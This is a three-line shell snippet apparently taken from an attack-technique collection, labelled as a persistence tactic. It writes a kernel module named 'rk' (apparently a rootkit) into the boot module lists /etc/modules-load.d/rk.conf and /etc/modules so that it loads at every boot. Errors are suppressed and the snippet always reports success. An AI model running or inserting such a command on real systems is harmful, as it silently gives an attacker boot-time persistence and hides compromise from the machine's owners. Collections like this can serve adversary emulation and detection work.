# tactic: persistence
# load a kernel module at every boot
echo rk > /etc/modules-load.d/rk.conf 2>/dev/null; echo rk >> /etc/modules 2>/dev/null; true
